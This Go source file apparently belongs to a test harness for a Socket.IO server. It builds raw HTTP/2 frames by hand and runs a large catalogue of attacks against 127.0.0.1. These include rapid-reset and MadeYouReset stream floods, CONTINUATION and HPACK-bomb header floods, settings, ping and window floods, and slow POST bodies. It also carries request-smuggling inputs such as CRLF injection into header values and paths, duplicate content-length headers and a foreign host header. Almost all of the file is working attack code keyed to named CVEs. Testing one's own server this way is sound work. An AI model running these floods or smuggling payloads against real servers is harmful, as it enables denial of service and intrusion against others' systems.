package attack

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"strings"
)

// h2 are the ways of HTTP/2, which is spoken where there is TLS: requests that are answered at once, polls that wait, streams.
var (
	h2Poll = Way{Name: "HTTP/2 polling", Path: "/socket.io/?EIO=4&transport=polling", Revision: 4, TLS: true, H2: true}
	h2SSE  = Way{Name: "HTTP/2 /sse", Path: "/sse?uid=mallory", TLS: true, H2: true}
	h2Page = Way{Name: "HTTP/2 /", Path: "/", TLS: true, H2: true}
)

// Types of frames, flags and settings of HTTP/2 (RFC 9113 §6).
const (
	h2Data, h2Headers, h2Priority, h2Reset, h2Settings, h2Push, h2Ping, h2GoAway, h2Window, h2More byte = 0, 1, 2, 3, 4, 5, 6, 7, 8, 9

	h2EndStream, h2Ack, h2EndHeaders byte = 1, 1, 4

	tableSize, initialWindow, maxFrame uint16 = 1, 4, 5
)

// preface begins a connection (RFC 9113 §3.4).
const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// piece is a frame of HTTP/2.
func piece(kind, flags byte, stream uint32, payload string) []byte {
	length := uint32(len(payload))
	head := []byte{byte(length >> 16), byte(length >> 8), byte(length), kind, flags}
	return append(binary.BigEndian.AppendUint32(head, stream), payload...)
}

// setting is a frame of one.
func setting(id uint16, value uint32) []byte {
	return piece(h2Settings, 0, 0, string(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint16(nil, id), value)))
}

// number is a payload of four bytes.
func number(n uint32) string { return string(binary.BigEndian.AppendUint32(nil, n)) }

// field is a header field as HPACK writes one that nobody has to remember (RFC 7541 §6.2.2).
func field(name, value string) string { return "\x00" + hpackText(name) + hpackText(value) }

// remembered is one that goes into the table (RFC 7541 §6.2.1).
func remembered(name, value string) string { return "\x40" + hpackText(name) + hpackText(value) }

// hpackText is a text without Huffman's code (RFC 7541 §5.2).
func hpackText(text string) string {
	n := len(text)
	if n < 127 {
		return string([]byte{byte(n)}) + text
	}
	length := []byte{127}
	for n -= 127; n >= 128; n >>= 7 {
		length = append(length, byte(n&127|128))
	}
	return string(append(length, byte(n))) + text
}

// fields are those of a request.
func fields(method, path string, more ...string) string {
	return field(":method", method) + field(":scheme", "https") + field(":authority", "127.0.0.1") + field(":path", path) + strings.Join(more, "")
}

// asking is a request without a body.
func asking(stream uint32, path string, more ...string) []byte {
	return piece(h2Headers, h2EndHeaders|h2EndStream, stream, fields("GET", path, more...))
}

// http2 opens a connection, with settings.
func (a *Attacker) http2(w Way, settings ...[]byte) (*conn, error) {
	c, err := a.dial(w)
	if err != nil {
		return nil, err
	}
	if len(settings) == 0 {
		settings = [][]byte{piece(h2Settings, 0, 0, "")}
	}
	begin := []byte(preface)
	for _, s := range settings {
		begin = append(begin, s...)
	}
	return c, c.write(begin)
}

// readPiece reads a frame of HTTP/2.
func (c *conn) readPiece() (kind byte, stream uint32, payload string, err error) {
	var head [9]byte
	if _, err := io.ReadFull(c.in, head[:]); err != nil {
		return 0, 0, "", err
	}
	body := make([]byte, int(head[0])<<16|int(head[1])<<8|int(head[2]))
	_, err = io.ReadFull(c.in, body)
	return head[3], binary.BigEndian.Uint32(head[5:]), string(body), err
}

// served waits until a request is answered, refused or reset, or the connection ends.
func (c *conn) served(stream uint32) error {
	for {
		kind, on, _, err := c.readPiece()
		switch {
		case err != nil && ended(err):
			return nil
		case err != nil:
			return fmt.Errorf("no answer on stream %d: %w", stream, err)
		case kind == h2GoAway, on == stream && (kind == h2Headers || kind == h2Reset):
			return nil
		}
	}
}

// shut waits until the server says that it ends the connection, or ends it.
func (c *conn) shut() error {
	for {
		switch kind, _, _, err := c.readPiece(); {
		case err != nil && !ended(err):
			return fmt.Errorf("the connection was not ended: %w", err)
		case err != nil, kind == h2GoAway:
			return nil
		}
	}
}

// pieces is an input of HTTP/2: frames, as they stand but for PATH, and what has to become of them.
func pieces(name string, become func(*conn) error, frames func(path string) [][]byte) Input {
	return Input{name, func(a *Attacker, w Way) error {
		c, err := a.http2(w)
		if err != nil {
			return err
		}
		var all []byte
		for _, f := range frames(w.Path) {
			all = append(all, f...)
		}
		return errors.Join(c.write(all), become(c))
	}}
}

// answered1 waits for the answer to the first request.
func answered1(c *conn) error { return c.served(1) }

// streaming is an input of HTTP/2: a turn for each of many streams, in one flood without reading.
func streaming(name string, short, long int, turn func(stream uint32, path string) []byte, settings ...[]byte) Input {
	return Input{name, func(a *Attacker, w Way) error {
		c, err := a.http2(w, settings...)
		if err != nil {
			return err
		}
		const together = 200
		stream := uint32(1)
		for sent := 0; sent < a.count(short, long); sent += together {
			var all []byte
			for range together {
				all = append(all, turn(stream, w.Path)...)
				stream += 2
			}
			if err := c.flood(all, 1); err != nil {
				return err
			}
		}
		return nil
	}}
}

// repeating is an input of HTTP/2: requests first, then one turn again and again.
func repeating(name string, short, long int, requests int, turn func(path string) []byte, settings ...[]byte) Input {
	return Input{name, func(a *Attacker, w Way) error {
		c, err := a.http2(w, settings...)
		if err != nil {
			return err
		}
		for n := range requests {
			if err := c.write(asking(uint32(2*n+1), w.Path)); err != nil {
				return err
			}
		}
		return c.flood(turn(w.Path), a.count(short, long))
	}}
}

// http2s are attacks by HTTP/2.
func http2s() []Family {
	ways := []Way{h2Poll, h2SSE, h2Page}
	always := func(frames ...[]byte) func(string) []byte {
		return func(string) []byte { return joined(frames...) }
	}
	request := func(name string, block string) Input {
		return pieces(name, answered1, func(string) [][]byte { return [][]byte{piece(h2Headers, h2EndHeaders|h2EndStream, 1, block)} })
	}
	breaks := func(name string, frames ...[]byte) Input {
		return pieces(name, (*conn).shut, func(string) [][]byte { return frames })
	}
	bare := strings.Replace(fields("GET", "/"), field(":path", "/"), "", 1)
	upload := func(stream uint32, path string, more ...string) []byte {
		return piece(h2Headers, h2EndHeaders, stream, fields("POST", path, more...))
	}
	many := strings.Repeat(field("x-a", "b"), 1000)
	return []Family{
		{"HTTP/2 streams that are reset", "rapid reset CVE-2023-44487, CVE-2019-9514; MadeYouReset CVE-2025-8671", ways, []Input{
			streaming("by the client", 4000, 400_000, func(s uint32, path string) []byte {
				return joined(asking(s, path), piece(h2Reset, 0, s, number(8)))
			}),
			streaming("by a window that does not grow", 4000, 400_000, func(s uint32, path string) []byte {
				return joined(asking(s, path), piece(h2Window, 0, s, number(0)))
			}),
			streaming("by a window that is too large", 4000, 400_000, func(s uint32, path string) []byte {
				return joined(asking(s, path), piece(h2Window, 0, s, number(1<<31-1)))
			}),
			streaming("by data behind the end", 4000, 400_000, func(s uint32, path string) []byte {
				return joined(asking(s, path), piece(h2Data, 0, s, "x"))
			}),
			streaming("by headers behind the end", 4000, 400_000, func(s uint32, path string) []byte {
				return joined(asking(s, path), piece(h2Headers, h2EndHeaders, s, field("a", "b")))
			}),
			streaming("with a body under way", 2000, 100_000, func(s uint32, path string) []byte {
				return joined(upload(s, path), piece(h2Data, 0, s, "40"), piece(h2Reset, 0, s, number(8)))
			}),
		}},
		{"HTTP/2 streams without number", "RFC 9113 §5.1.2", ways, []Input{
			streaming("requests whose answers nobody reads", 4000, 400_000, func(s uint32, path string) []byte { return asking(s, path) }),
			streaming("bodies that never come", 4000, 100_000, func(s uint32, path string) []byte { return upload(s, path) }),
		}},
		{"HTTP/2 settings", "CVE-2019-9515; Go CVE-2026-97032, CVE-2026-78669", ways, []Input{
			repeating("without end", 20_000, 1_000_000, 0, always(piece(h2Settings, 0, 0, ""))),
			repeating("acknowledgements that nobody asked for", 20_000, 1_000_000, 0, always(piece(h2Settings, h2Ack, 0, ""))),
			repeating("windows of many streams", 50_000, 1_000_000, 200, always(setting(initialWindow, 0), setting(initialWindow, 65535))),
			{"sizes of the table, and requests", tablesAndRequests},
			breaks("a window that is too large", setting(initialWindow, 1<<31)), breaks("frames of nothing", setting(maxFrame, 1)), breaks("of five bytes", piece(h2Settings, 0, 0, "\x00\x01\x00\x00\x00")), breaks("of a stream", piece(h2Settings, 0, 1, "")),
		}},
		{"HTTP/2 header blocks", "CONTINUATION flood CVE-2023-45288; HPACK bomb CVE-2016-6581; CVE-2019-9516", ways, []Input{
			{"without end", func(a *Attacker, w Way) error {
				c, err := a.http2(w)
				if err != nil {
					return err
				}
				return errors.Join(c.write(piece(h2Headers, h2EndStream, 1, fields("GET", w.Path))), c.flood(piece(h2More, 0, 1, many), a.count(5000, 200_000)), c.shut())
			}},
			{"without end, of nothing", func(a *Attacker, w Way) error {
				c, err := a.http2(w)
				if err != nil {
					return err
				}
				return errors.Join(c.write(piece(h2Headers, h2EndStream, 1, fields("GET", w.Path))), c.flood(piece(h2More, 0, 1, ""), a.count(200_000, 2_000_000)))
			}},
			{"of references", func(a *Attacker, w Way) error { // a byte for each, of a field of 4,000
				c, err := a.http2(w)
				if err != nil {
					return err
				}
				block := fields("GET", w.Path) + remembered("x", strings.Repeat("a", 4000)) + strings.Repeat("\xbe", 10_000)
				return errors.Join(c.write(piece(h2Headers, h2EndHeaders|h2EndStream, 1, block)), c.served(1))
			}},
			{"with names of nothing", func(a *Attacker, w Way) error {
				c, err := a.http2(w)
				if err != nil {
					return err
				}
				return errors.Join(c.write(piece(h2Headers, h2EndHeaders|h2EndStream, 1, fields("GET", w.Path)+strings.Repeat("\x00\x00\x00", 5000))), c.served(1))
			}},
			breaks("an index that is none", piece(h2Headers, h2EndHeaders|h2EndStream, 1, "\xff\xff\xff\xff\x0f")), breaks("a length without end", piece(h2Headers, h2EndHeaders|h2EndStream, 1, "\x00\x7f"+strings.Repeat("\xff", 100))),
			breaks("Huffman's code, cut", piece(h2Headers, h2EndHeaders|h2EndStream, 1, "\x00\x84\xff\xff\xff\xff\x00")), breaks("a table of 4 GiB", piece(h2Headers, h2EndHeaders|h2EndStream, 1, "\x3f\xe0\xff\xff\xff\x0f")),
			breaks("a continuation of nothing", piece(h2More, h2EndHeaders, 1, "")), breaks("something between", piece(h2Headers, 0, 1, bare), piece(h2Ping, 0, 0, "12345678")),
		}},
		{"HTTP/2 frames without end", "CVE-2019-9512, CVE-2019-9513, CVE-2019-9518", ways, []Input{
			repeating("pings", 20_000, 1_000_000, 0, always(piece(h2Ping, 0, 0, "12345678"))),
			repeating("priorities", 20_000, 1_000_000, 1, always(piece(h2Priority, 0, 1, number(3)+"\xff"), piece(h2Priority, 0, 3, number(1)+"\xff"))),
			repeating("priorities of streams that are not there", 20_000, 1_000_000, 0, always(piece(h2Priority, 0, 1<<30+1, number(3)+"\xff"))),
			repeating("windows", 20_000, 1_000_000, 1, always(piece(h2Window, 0, 0, number(1)))),
			repeating("of a kind that nobody knows", 20_000, 1_000_000, 1, always(piece(0xfa, 0xff, 1, "?"))),
			{"data of nothing", func(a *Attacker, w Way) error {
				c, err := a.http2(w)
				if err != nil {
					return err
				}
				return errors.Join(c.write(upload(1, w.Path)), c.flood(piece(h2Data, 0, 1, ""), a.count(20_000, 1_000_000)))
			}},
			{"data of padding", func(a *Attacker, w Way) error {
				c, err := a.http2(w)
				if err != nil {
					return err
				}
				return errors.Join(c.write(upload(1, w.Path)), c.flood(piece(h2Data, 8, 1, "\xff"+strings.Repeat("\x00", 255)), a.count(20_000, 1_000_000)))
			}},
		}},
		{"HTTP/2 frames that break the rules", "RFC 9113 §4.2, §5.1, §6", ways, []Input{
			breaks("longer than agreed", []byte("\xff\xff\xff\x00\x00\x00\x00\x00\x01")), breaks("data of no stream", piece(h2Data, 0, 0, "x")), breaks("data of a stream that is not open", piece(h2Data, 0, 1, "x")), breaks("a request on an even stream", asking(2, "/")),
			breaks("a stream below the last", asking(5, "/"), asking(3, "/")), breaks("a push", piece(h2Push, h2EndHeaders, 1, number(2))), breaks("a ping of seven bytes", piece(h2Ping, 0, 0, "1234567")), breaks("a reset of a stream that is not open", piece(h2Reset, 0, 7, number(8))),
			breaks("a window of nothing", piece(h2Window, 0, 0, number(0))), breaks("windows over 2^31", piece(h2Window, 0, 0, number(1<<31-1))), breaks("more padding than there is", asking(1, "/"), piece(h2Data, 8, 1, "\xff")), breaks("a priority of four bytes", piece(h2Priority, 0, 1, number(3))),
			{"another preface", func(a *Attacker, w Way) error {
				c, err := a.dial(w)
				if err != nil {
					return err
				}
				return errors.Join(c.say("GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"), c.end())
			}},
			{"a preface, cut", func(a *Attacker, w Way) error {
				c, err := a.dial(w)
				if err != nil {
					return err
				}
				return errors.Join(c.say(preface[:10]), c.closeWrite(), c.end())
			}},
		}},
		{"HTTP/2 windows that do not open", "CVE-2019-9511, CVE-2019-9517", ways, []Input{
			streaming("of streams", 1000, 20_000, func(s uint32, path string) []byte { return asking(s, path) }, setting(initialWindow, 0)),
			streaming("of a byte", 1000, 20_000, func(s uint32, path string) []byte {
				return joined(asking(s, path), piece(h2Window, 0, s, number(1)))
			}, setting(initialWindow, 1)),
			{"on connections that nobody reads", func(a *Attacker, w Way) error {
				for range a.count(30, 500) {
					c, err := a.http2(w, setting(initialWindow, 1<<31-1))
					if err != nil {
						return err
					}
					if err := c.write(joined(piece(h2Window, 0, 0, number(1<<31-1-65535)), asking(1, w.Path), asking(3, w.Path))); err != nil {
						return err
					}
				}
				return nil
			}},
		}},
		{"HTTP/2 requests that are none", "RFC 9113 §8.3; request smuggling", []Way{h2Poll}, []Input{
			request("no path", bare), request("two paths", fields("GET", "/")+field(":path", "/evil")), request("a path of nothing", fields("GET", "")), request("a path without a slash", fields("GET", "evil")), request("a pseudo-header behind others", field("a", "b")+fields("GET", "/")),
			request("a pseudo-header that nobody knows", fields("GET", "/")+field(":evil", "x")), request("capitals", fields("GET", "/", field("X-A", "b"))), request("Connection", fields("GET", "/", field("connection", "upgrade"), field("upgrade", "websocket"))), request("Transfer-Encoding", fields("POST", "/", field("transfer-encoding", "chunked"))),
			request("ends of lines in a value", fields("GET", "/", field("x-a", "b\r\nx-evil: 1"))), request("ends of lines in a path", fields("GET", "/\r\nX-Evil: 1")), request("a NUL", fields("GET", "/", field("x-a", "\x00"))), request("another host", fields("GET", "/", field("host", "evil.example"))),
			request("CONNECT", field(":method", "CONNECT")+field(":authority", "127.0.0.1:22")), request("a WebSocket", fields("CONNECT", "/ws", field(":protocol", "websocket"))), request("a length that is none", fields("POST", "/", field("content-length", "-1"))), request("two lengths", fields("POST", "/", field("content-length", "1"), field("content-length", "2"))),
			request("a cookie of 60,000 bytes", fields("GET", "/", strings.Repeat(field("cookie", strings.Repeat("c", 3000)), 5))), request("no method that is one", fields("GET / HTTP/1.1\r\nA: b", "/")),
		}},
		{"HTTP/2 bodies", "Go CVE-2026-78663; slow POST", []Way{h2Poll}, []Input{
			{"longer than announced", h2Body(field("content-length", "1"), strings.Repeat("x", 10_000), true)},
			{"shorter than announced", h2Body(field("content-length", "1000"), "40", true)},
			{"over the limit", h2Body("", strings.Repeat("x", 2_000_000), true)},
			{"that come slowly", func(a *Attacker, w Way) error {
				s, err := a.openH2(w)
				if err != nil {
					return err
				}
				for n := range a.count(100, 240) {
					stream := uint32(2*n + 3)
					if err := s.sock.write(joined(upload(stream, s.address(), field("content-length", "1000")), piece(h2Data, 0, stream, "4"))); err != nil {
						return err
					}
				}
				return nil
			}},
			{"that are reset with data in them, again and again", func(a *Attacker, w Way) error {
				s, err := a.openH2(w)
				if err != nil {
					return err
				}
				const together = 16_000
				for n := range a.count(300, 20_000) {
					stream := uint32(2*n + 3)
					if err := s.sock.flood(joined(upload(stream, s.address()), piece(h2Data, 0, stream, strings.Repeat("x", together)), piece(h2Reset, 0, stream, number(8))), 1); err != nil {
						return err
					}
				}
				return nil
			}},
		}},
	}
}

// joined is many frames in one.
func joined(frames ...[]byte) []byte {
	var all []byte
	for _, f := range frames {
		all = append(all, f...)
	}
	return all
}

// tablesAndRequests changes the size of the table while requests are answered: one goroutine of the server writes headers by the
// table, another one changes it.
func tablesAndRequests(a *Attacker, w Way) error {
	c, err := a.http2(w)
	if err != nil {
		return err
	}
	drained := make(chan error, 1)
	go func() { drained <- c.end() }() // who reads gets more answers
	stream := uint32(1)
	for range a.count(300, 10_000) {
		var all []byte
		for n := range 100 {
			all = append(all, joined(asking(stream, fmt.Sprint("/nothing-", stream)), setting(tableSize, uint32(n%2)*4096))...)
			stream += 2
		}
		if err := c.flood(all, 1); err != nil {
			return err
		}
	}
	return errors.Join(c.closeWrite(), c.tcp.Close(), <-drained)
}

// openH2 opens a session of Engine.IO by HTTP/2, on stream 1 of its connection.
func (a *Attacker) openH2(w Way) (*session, error) {
	c, err := a.http2(w)
	if err != nil {
		return nil, err
	}
	if err := c.write(asking(1, w.Path)); err != nil {
		return nil, err
	}
	for {
		kind, on, payload, err := c.readPiece()
		if err != nil {
			return nil, fmt.Errorf("opening a session: %w", err)
		}
		if found := sid.FindStringSubmatch(payload); kind == h2Data && on == 1 && found != nil {
			return &session{a: a, w: w, id: found[1], sock: c}, nil
		}
	}
}

// h2Body posts a body for a session, and waits for what becomes of it.
func h2Body(more, body string, last bool) func(a *Attacker, w Way) error {
	return func(a *Attacker, w Way) error {
		s, err := a.openH2(w)
		if err != nil {
			return err
		}
		c := s.sock
		if err := c.write(piece(h2Headers, h2EndHeaders, 3, fields("POST", s.address(), field("content-type", "text/plain"), more))); err != nil {
			return err
		}
		for len(body) > 0 {
			part := body[:min(len(body), 16_384)]
			body = body[len(part):]
			var flags byte
			if last && body == "" {
				flags = h2EndStream
			}
			if err := c.flood(piece(h2Data, flags, 3, part), 1); err != nil {
				return err
			}
		}
		return c.served(3)
	}
}
